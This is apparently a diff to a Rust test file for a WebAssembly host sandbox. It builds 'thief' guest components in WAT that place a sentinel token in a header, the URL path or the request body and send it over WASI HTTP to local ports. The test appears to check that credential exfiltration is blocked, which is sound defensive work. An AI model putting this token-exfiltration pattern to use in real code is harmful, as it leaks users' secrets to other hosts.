@@ -15,7 +15,7 @@ use crate::tenant::{Host, OPTIONS, query};
 const TOKEN: &str = "00D5g000004XyzA!AQ0AQSENTINEL.abcdefghijklmnopqrstuvwxyz0123456789";
 const SECRET: &str = "SENTINEL";
 
-/// Puts texts together in memory, and sends what was put together.
+/// Puts texts together in memory, and requests of them.
 const THIEVERY: &str = r#"
     (global $end (mut i32) (i32.const 0))
     (func $begin (result i32) (global.set $end (i32.const 200000)) (global.get $end))
@@ -36,8 +36,23 @@ const THIEVERY: &str = r#"
         (call $add (local.get $path) (local.get $path_length))
         (call $add (local.get $token) (local.get $token_length))
         (if (call $set_path (local.get $request) (i32.const 1) (local.get $all) (i32.sub (global.get $end) (local.get $all)))
-            (then unreachable))
-        (call $send (local.get $request)))"#;
+            (then unreachable)))
+    (func $send_with (param $request i32) (param $content i32) (param $length i32)
+        (local $body i32) (local $stream i32) (local $future i32)
+        (call $body (local.get $request) (global.get $scratch))
+        (local.set $body (i32.load offset=4 (global.get $scratch)))
+        (call $stream (local.get $body) (global.get $scratch))
+        (local.set $stream (i32.load offset=4 (global.get $scratch)))
+        (local.set $future (call $start (local.get $request)))
+        (call $write (local.get $stream) (local.get $content) (local.get $length) (global.get $scratch))
+        (call $drop_stream (local.get $stream))
+        (call $finish (local.get $body) (i32.const 0) (i32.const 0) (global.get $scratch))
+        (call $block (call $subscribe (local.get $future))))"#;
+
+/// What a body needs beside [`HTTP`].
+const BODY: &str = r#"
+    (import "wasi:http/types@0.2.2" "[static]outgoing-body.finish" (func $finish (param i32 i32 i32 i32)))
+    (import "wasi:io/streams@0.2.2" "[resource-drop]output-stream" (func $drop_stream (param i32)))"#;
 
 /// One request: where, which path, which field with what before the token, and what of the token follows the path.
 struct Theft {
@@ -72,26 +87,18 @@ fn thief(thefts: &[Theft]) -> Vec<u8> {
     for theft in thefts {
         let to = theft.to.map_or_else(|| org.clone(), |port| text(&format!("127.0.0.1:{port}")));
         let (name, before, path) = (text(theft.field.0), text(theft.field.1), text(theft.path));
-        let body = if theft.token_in_body {
-            format!(
-                "(call $body (local.get $request) (global.get $scratch))
-                (call $stream (i32.load offset=4 (global.get $scratch)) (global.get $scratch))
-                (call $write (i32.load offset=4 (global.get $scratch)) {token} (global.get $scratch))"
-            )
-        } else {
-            String::new()
-        };
+        let content = if theft.token_in_body { token } else { nothing };
         let rest = if theft.token_in_path { token } else { nothing };
         act.push_str(&format!(
             "(local.set $fields (call $fields))
             (call $field (local.get $fields) {name} {before} {token})
             (local.set $request (call $to (i32.const 0) {to} (local.get $fields)))
-            {body}
-            (call $go (local.get $request) {path} {rest})\n"
+            (call $go (local.get $request) {path} {rest})
+            (call $send_with (local.get $request) {content})\n"
         ));
     }
     let definitions = format!("{SEND} {THIEVERY} {data}");
-    Guest { imports: HTTP, definitions: definitions.leak(), act: act.leak() }.component()
+    Guest { imports: format!("{HTTP} {BODY}").leak(), definitions: definitions.leak(), act: act.leak() }.component()
 }
 
 const OK: &str = "HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n";
